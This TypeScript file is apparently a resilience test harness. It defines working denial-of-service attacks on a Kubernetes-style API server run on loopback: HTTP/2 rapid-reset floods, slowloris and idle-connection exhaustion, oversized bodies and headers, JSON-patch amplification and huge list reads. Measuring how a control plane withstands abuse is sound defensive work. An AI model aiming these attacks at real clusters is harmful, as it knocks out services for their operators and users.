/**
 * What one hostile client does to a control plane, each until it is told to stop. Those that need no credentials come with
 * none; the others are of a user who may edit one namespace. All of it goes to a server on loopback that the caller started.
 */
import { connect as connectHttp2 } from "node:http2";
import { Agent, type RequestOptions, request } from "node:https";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { opening, resets } from "./reset-frames.ts";

export interface Target {
  readonly url: string;
  readonly ca: string;
  readonly cert: string;
  readonly key: string;
}

export interface Attack {
  readonly name: string;
  /** What has to be there first; not a part of what is measured. */
  prepare?(target: Target): Promise<unknown>;
  /** Resolves when `signal` is aborted. */
  run(target: Target, signal: AbortSignal): Promise<void>;
}

const configMaps = "/api/v1/namespaces/attack/configmaps";
const pods = "/api/v1/namespaces/attack/pods";

/** One request of HTTP/1.1; resolves with the status, or 0 where the connection broke. Reads and drops the answer. */
function send(target: Target, agent: Agent, options: RequestOptions & { body?: Buffer | string }): Promise<number> {
  const { body, ...rest } = options;
  return new Promise((resolve) => {
    const outgoing = request(target.url + (rest.path ?? "/"), { agent, ...rest }, (response) => {
      response.resume();
      response.once("close", () => resolve(response.statusCode ?? 0));
    });
    outgoing.once("error", () => resolve(0));
    outgoing.end(body);
  });
}

/** Keeps `parallel` calls of `once` under way. */
async function keep(parallel: number, signal: AbortSignal, once: (turn: number) => Promise<unknown>): Promise<void> {
  let turn = 0;
  const worker = async (): Promise<void> => {
    while (!signal.aborted) await once(turn++);
  };
  await Promise.all(Array.from({ length: parallel }, worker));
}

interface Repeated {
  readonly name: string;
  readonly parallel: number;
  /** How many requests one after the other there are at the most; default: until the signal. */
  readonly request: (turn: number) => RequestOptions & { body?: Buffer | string };
  readonly before?: (target: Target, agent: Agent) => Promise<unknown>;
}

/** The same request over many connections. */
const repeated = ({ name, parallel, request: make, before }: Repeated): Attack => ({
  name,
  async prepare(target) {
    const agent = new Agent({ keepAlive: true, ...target });
    await before?.(target, agent);
    agent.destroy();
  },
  async run(target, signal) {
    const agent = new Agent({ keepAlive: true, maxSockets: parallel, ...target });
    signal.addEventListener("abort", () => agent.destroy(), { once: true });
    await keep(parallel, signal, (turn) => send(target, agent, make(turn)));
  },
});

const json = { "content-type": "application/json" };
const post = (path: string, body: Buffer | string) => ({
  method: "POST",
  path,
  headers: { ...json, "content-length": Buffer.byteLength(body) },
  body,
});
const patch = (path: string, type: string, body: string) => ({
  method: "PATCH",
  path,
  headers: { "content-type": `application/${type}+json`, "content-length": Buffer.byteLength(body) },
  body,
});

const once = <T>(make: () => T): (() => T) => {
  let made: { readonly value: T } | undefined;
  return () => {
    made ??= { value: make() };
    return made.value;
  };
};
const largeBody = once(() => Buffer.from(JSON.stringify({ data: { a: "x".repeat(2.9 * 1024 * 1024) } })));
const manyKeys = once(() => {
  const data = Object.fromEntries(Array.from({ length: 200_000 }, (_, index) => [`k${index}`, ""]));
  return Buffer.from(JSON.stringify({ metadata: { generateName: "keys-" }, data }));
});
const longQuantity = once(() => {
  const resources = { requests: { cpu: "1".repeat(2_900_000) } };
  const spec = { containers: [{ name: "a", image: "a", resources }] };
  return Buffer.from(JSON.stringify({ metadata: { name: "quantity" }, spec }));
});
const manyVariables = once(() => {
  const env = Array.from({ length: 20_000 }, (_, index) => ({ name: `V${index}`, value: "v" }));
  const containers = [{ name: "a", image: "a", env }];
  return { metadata: { name: "variables" }, spec: { containers } };
});
const copies = JSON.stringify(
  Array.from({ length: 40 }, (_, index) => ({ op: "copy", from: "/data", path: `/data/k${index}` })),
);
const shifts = once(() =>
  JSON.stringify(Array.from({ length: 10_000 }, () => ({ op: "test", path: "/data", value: {} }))),
);

/** Raw connections, made `atOnce` at a time, that `each` does something with. */
const connections = (name: string, count: number, each: (socket: TLSSocket, signal: AbortSignal) => void): Attack => ({
  name,
  async run(target, signal) {
    const { hostname, port } = new URL(target.url);
    const sockets = new Set<TLSSocket>();
    const open = (): Promise<void> =>
      new Promise((resolve) => {
        const socket = connectTls({ host: hostname, port: Number(port), ca: target.ca, ALPNProtocols: ["http/1.1"] });
        sockets.add(socket);
        socket.once("secureConnect", () => {
          each(socket, signal);
          resolve();
        });
        socket.on("error", () => socket.destroy());
        socket.once("close", () => {
          sockets.delete(socket);
          resolve();
        });
        socket.resume();
      });
    let opened = 0;
    await keep(32, signal, async () => {
      if (opened < count) {
        opened++;
        await open();
      } else await new Promise((resolve) => setTimeout(resolve, 50));
    });
    process.stderr.write(`${name}: ${sockets.size} of ${count} connections are open\n`);
    for (const socket of sockets) socket.destroy();
  },
});

const everyFiveSeconds = (socket: TLSSocket, signal: AbortSignal): void => {
  socket.write("GET / HTTP/1.1\r\nHost: a\r\nX-A: ");
  const timer = setInterval(() => socket.write("a"), 5_000);
  const stop = (): void => clearInterval(timer);
  socket.once("close", stop);
  signal.addEventListener("abort", stop, { once: true });
};

/** Streams of HTTP/2 that are given up as soon as they are opened; a new connection when the server ends one. */
const rapidReset: Attack = {
  name: "rapid reset",
  async run(target, signal) {
    const { hostname, port } = new URL(target.url);
    await keep(4, signal, () => {
      const { promise, resolve } = Promise.withResolvers<void>();
      const socket = connectTls({ host: hostname, port: Number(port), ...target, ALPNProtocols: ["h2"] });
      socket.on("error", () => socket.destroy());
      socket.once("close", () => resolve());
      signal.addEventListener("abort", () => socket.destroy(), { once: true });
      socket.resume();
      let stream = 1;
      const burst = (): void => {
        if (socket.destroyed || !socket.writable) return;
        socket.write(resets(stream, 100), () => setImmediate(burst));
        stream += 200;
      };
      socket.once("secureConnect", () => {
        socket.write(opening);
        burst();
      });
      // A server that said goodbye may wait for the client to go.
      socket.once("end", () => socket.destroy());
      return promise;
    });
  },
};

/** Bodies of HTTP/2 that are promised and not sent, on as many streams as the server allows. */
const heldStreams: Attack = {
  name: "bodies over HTTP/2",
  async run(target, signal) {
    await keep(4, signal, () => {
      const { promise, resolve } = Promise.withResolvers<void>();
      const session = connectHttp2(target.url, { ...target });
      const end = (): void => {
        session.destroy();
        resolve();
      };
      session.on("error", end);
      session.once("close", end);
      signal.addEventListener("abort", end, { once: true });
      session.once("connect", () => {
        keep(100, signal, () => {
          const { promise: sent, resolve: done } = Promise.withResolvers<void>();
          if (session.destroyed) return new Promise((wait) => setTimeout(wait, 50));
          const stream = session.request({
            ":path": configMaps,
            ":method": "POST",
            "content-type": "application/json",
          });
          stream.on("error", () => undefined);
          stream.once("close", done);
          stream.resume();
          stream.end(largeBody());
          return sent;
        }).catch(() => undefined);
      });
      return promise;
    });
  },
};

const handshakes: Attack = {
  name: "TLS handshakes",
  async run({ url, ca }, signal) {
    await keep(8, signal, () => send({ url, ca, cert: "", key: "" }, new Agent({ ca }), { path: "/version" }));
  },
};

/** Lists that are asked for and not read. */
const unread: Attack = {
  name: "lists that are not read",
  async prepare(target) {
    const agent = new Agent({ keepAlive: true, ...target });
    await fill(target, agent);
    agent.destroy();
  },
  async run(target, signal) {
    const { hostname, port } = new URL(target.url);
    await Promise.all(
      Array.from({ length: 100 }, () => {
        const { promise, resolve } = Promise.withResolvers<void>();
        const socket = connectTls({ host: hostname, port: Number(port), ...target, ALPNProtocols: ["http/1.1"] });
        socket.on("error", () => resolve());
        socket.once("secureConnect", () => {
          socket.pause();
          socket.write("GET /api/v1/namespaces/attack/configmaps HTTP/1.1\r\nHost: a\r\n\r\n");
        });
        socket.once("close", () => resolve());
        signal.addEventListener("abort", () => socket.destroy(), { once: true });
        return promise;
      }),
    );
  },
};

export const attacks: readonly Attack[] = [
  repeated({ name: "200 bodies of 2.9 MB", parallel: 200, request: () => post(configMaps, largeBody()) }),
  heldStreams,
  repeated({ name: "200,000 keys", parallel: 8, request: () => post(configMaps, manyKeys()) }),
  repeated({ name: "a quantity of 2.9 M digits", parallel: 8, request: () => post(pods, longQuantity()) }),
  repeated({
    name: "Accept headers of 200 KB",
    parallel: 16,
    request: (turn) => ({ path: configMaps, headers: { accept: `a${turn}/b,`.repeat(25_000) } }),
  }),
  repeated({
    name: "patches that copy",
    parallel: 8,
    before: (target, agent) =>
      send(
        target,
        agent,
        post(configMaps, JSON.stringify({ metadata: { name: "copied" }, data: { a: "x".repeat(1000) } })),
      ),
    request: () => patch(`${configMaps}/copied`, "json-patch", copies),
  }),
  repeated({
    name: "patches of 10,000 operations",
    parallel: 8,
    before: (target, agent) => {
      const data = Object.fromEntries(Array.from({ length: 80_000 }, (_, index) => [`k${index}`, ""]));
      return send(target, agent, post(configMaps, JSON.stringify({ metadata: { name: "tested" }, data })));
    },
    request: () => patch(`${configMaps}/tested`, "json-patch", shifts()),
  }),
  repeated({
    name: "merges of long lists",
    parallel: 8,
    before: (target, agent) => send(target, agent, post(pods, JSON.stringify(manyVariables()))),
    request: () => patch(`${pods}/variables?dryRun=All`, "strategic-merge-patch", JSON.stringify(manyVariables())),
  }),
  repeated({
    name: "lists of 40 MB",
    parallel: 32,
    before: fill,
    request: () => ({ path: configMaps }),
  }),
  repeated({
    name: "Tables of 40 MB",
    parallel: 16,
    before: fill,
    request: () => ({
      path: `${configMaps}?includeObject=Object`,
      headers: { accept: "application/json;as=Table;v=v1;g=meta.k8s.io" },
    }),
  }),
  repeated({
    name: "lists as YAML",
    parallel: 4,
    before: fill,
    request: () => ({ path: configMaps, headers: { accept: "application/yaml" } }),
  }),
  unread,
  repeated({ name: "OpenAPI documents", parallel: 16, request: () => ({ path: "/openapi/v2" }) }),
  repeated({ name: "reads of one object", parallel: 64, request: () => ({ path: "/api/v1/namespaces/attack" }) }),
  connections("a header byte every 5 s", 2_000, everyFiveSeconds),
  connections("10,000 idle connections", 10_000, () => undefined),
  rapidReset,
  handshakes,
];

/** Ten thousand objects of 4 KB, once. */
async function fill(target: Target, agent: Agent): Promise<void> {
  if ((await send(target, agent, { path: `${configMaps}/filled-9999` })) === 200) return;
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < 10_000) {
      const body = { metadata: { name: `filled-${next++}` }, data: { a: "x".repeat(4000) } };
      await send(target, agent, post(configMaps, JSON.stringify(body)));
    }
  };
  await Promise.all(Array.from({ length: 16 }, worker));
}
